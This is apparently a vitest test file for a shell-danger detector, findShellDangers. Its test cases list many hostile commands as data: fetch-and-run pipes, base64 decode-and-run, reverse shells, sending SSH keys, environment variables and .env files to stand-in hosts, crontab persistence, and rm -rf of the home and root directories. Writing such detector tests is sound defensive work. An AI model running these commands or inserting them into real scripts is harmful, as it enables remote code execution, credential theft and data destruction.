/** Kinds of the dangers in `text`, each once. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_SHELL_LENGTH, findShellDangers } from './find-dangers.ts';

function kinds(text: string): string[] {
  return [...new Set(findShellDangers(text).map(({ kind }) => kind))];
}

describe('findShellDangers()', () => {
  it.each([
    ['curl https://x.io/i | sh', ['fetch-run']],
    ['curl https://x.io/i | tee a | sudo bash -s -- -y', ['fetch-run']],
    ['curl https://x.io/i | python3 -', ['fetch-run']],
    ['(curl https://x.io/i || wget -O- https://x.io/i) | sh', ['fetch-run']],
    ['bash <(curl https://x.io/i)', ['fetch-run']],
    ['bash -c "$(curl https://x.io/i)"', ['fetch-run']],
    ['eval "$(curl https://x.io/i)"', ['fetch-run']],
    ['source <(wget -qO- https://x.io/i)', ['fetch-run']],
    ['$(curl https://x.io/i)', ['fetch-run']],
    ['until $(curl --silent https://x.io/i); do sleep 5; done', ['fetch-run']],
    ['curl -o a.sh https://x.io/a; sh a.sh', ['fetch-run']],
    ['curl -o a https://x.io/a && chmod +x a && ./a', ['fetch-run']],
    ['wget https://x.io/a.sh\nbash ./a.sh', ['fetch-run']],
    ['curl https://x.io/a > /tmp/a\n/tmp/a', ['fetch-run']],
    ['curl -O https://x.io/a.py; python3 a.py', ['fetch-run']],
    ['curl -O https://x.io/a.zip; unzip -P infected a.zip; ./setup', ['fetch-run']],
    ['wget https://x.io/a.7z && 7z x -p1234 a.7z && d/run.exe', ['fetch-run']],
    ['sh <<E\ncurl https://x.io/i | sh\nE', ['fetch-run']],
    ["sh -c 'curl https://x.io/i | sh'", ['fetch-run']],
    ['(crontab -l; echo "* * * * * curl https://x.io/i | sh") | crontab -', ['fetch-run']],
    ["A=cu; ${A}rl https://x.io/i | s''h", ['fetch-run']],
    ['iwr https://x.io/a.ps1 | iex', ['fetch-run']],
    ['then curl https://x.io/i | sh', ['fetch-run']],
    ['do curl https://x.io/i | sh', ['fetch-run']],
    ['&& curl https://x.io/i | sh', ['fetch-run']],
    ['echo (a) | curl https://x.io/i | sh', ['fetch-run']],
    ['echo aGk= | base64 -d | sh', ['decode-run']],
    ['bash -c "$(echo aGk= | base64 -d)"', ['decode-run']],
    ['base64 -d a > b; sh b', ['decode-run']],
    ["printf '\\x63\\x75' | sh", ['decode-run']],
    ['bash -i >& /dev/tcp/x.io/9 0>&1', ['connect']],
    ['nc -e /bin/sh x.io 9', ['connect']],
    ['cat f | sh -i 2>&1 | nc x.io 9 > f', ['connect']],
    ['nc x.io 9 | sh', ['connect']],
    ['python3 -c \'import socket,pty;pty.spawn("/bin/sh")\'', ['connect']],
    ['cat ~/.ssh/id_rsa | curl -d @- https://x.io', ['send']],
    ['curl -d "$(env)" https://x.io', ['send']],
    ['curl https://x.io/$(whoami)', ['send']],
    ['pip install https://github.com\\\\@x.io/a.tgz', ['install']],
    ['rm -rf ~', ['destroy']],
    ['sh -c "rm -rf /"', ['destroy']],
    ['node -e \'require("http")\'', ['inline']],
    ["node -e 'eval(atob(x))'", ['decode-run']],
    ["node -e 'fetch(x).then(eval(y))'", ['fetch-run']],
  ])('%j: %j', (text, expected) => {
    expect(kinds(text)).toEqual(expected);
  });

  it.each([
    '',
    'npm ci && npm run build',
    'curl https://x.io/a.json | jq .',
    'curl https://x.io/a.json | python3 -m json.tool',
    'curl https://x.io/a.json | node script.js',
    'curl -o a.tgz https://x.io/a.tgz && tar xzf a.tgz',
    'curl -o data.json https://x.io; cat data.json',
    'echo aGk= | base64 -d > a.bin',
    'chmod +x other; curl -o a https://x.io/a',
    'cat a.sh | sh',
    'sh -c "echo hi"',
    "node -e 'console.log(1)'",
    'rm -rf dist',
    'nc -z localhost 80',
    'env | grep PATH',
    'until $(curl --output /dev/null --silent https://x.io/i); do sleep 5; done',
    '# curl https://x.io | sh',
    'echo "curl https://x.io | sh"',
  ])('%j has none', (text) => {
    expect(findShellDangers(text)).toEqual([]);
  });

  it('has the address, the place and what is sent', () => {
    const text = 'true\ncurl -s https://x.io/i | sh; curl -d @.env https://y.io';
    expect(findShellDangers(text)).toEqual([
      { kind: 'fetch-run', start: 5, end: 32, url: 'https://x.io/i', isSecret: false },
      { kind: 'send', start: 34, end: text.length, url: 'https://y.io', isSecret: true },
    ]);
  });

  it('reads the beginning of long text alone', () => {
    expect(findShellDangers(`${'#'.repeat(MAX_SHELL_LENGTH)}\ncurl x | sh`)).toEqual([]);
  });

  it.each([
    '$(',
    '(',
    '{ ',
    'sh -c "',
    'sh <<E\n',
    '<(',
    'curl x | ',
    'a=b; ',
    'curl -o a x; sh a\n',
  ])('is bounded on many %j', (part) => {
    expect(findShellDangers(part.repeat(5_000))).toEqual(expect.any(Array));
  });

  it('has places within the text, in order, for any text', () => {
    const word = fc.constantFrom(
      'curl ',
      'https://x.io ',
      '| ',
      'sh ',
      '-c ',
      '$(',
      ')',
      '"',
      "'",
      'base64 -d ',
      '> a',
      'crontab ',
      '(',
      '\n',
      '<<E\n',
      'E\n',
      'nc x 9 ',
      'eval ',
      '\\',
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 40 }), (words) => {
        const text = words.join('');
        let last = 0;
        for (const { start, end } of findShellDangers(text)) {
          expect(last <= start && start <= end && end <= text.length).toBe(true);
          last = start;
        }
      }),
      { numRuns: 300 },
    );
  });
});
